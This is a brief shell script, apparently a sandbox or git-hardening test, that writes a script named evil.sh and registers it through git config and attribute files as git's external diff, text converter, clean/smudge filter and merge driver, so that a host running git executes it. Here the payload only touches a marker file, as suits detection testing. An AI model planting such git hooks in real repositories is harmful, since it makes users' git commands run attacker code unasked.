#!/bin/sh
# tries: to have the host run a program as an external diff, a text converter, a filter or a merge driver
# bare: works
printf '#!/bin/sh\ntouch %s/diff\ncat\n' "$LOOT" > evil.sh && chmod +x evil.sh
for name in diff.external diff.evil.command diff.evil.textconv filter.evil.clean filter.evil.smudge merge.evil.driver; do
  git config "$name" "$PWD/evil.sh"
done
echo '* diff=evil filter=evil merge=evil' > .git/info/attributes
echo '* diff=evil filter=evil merge=evil' > .gitattributes
echo work > work
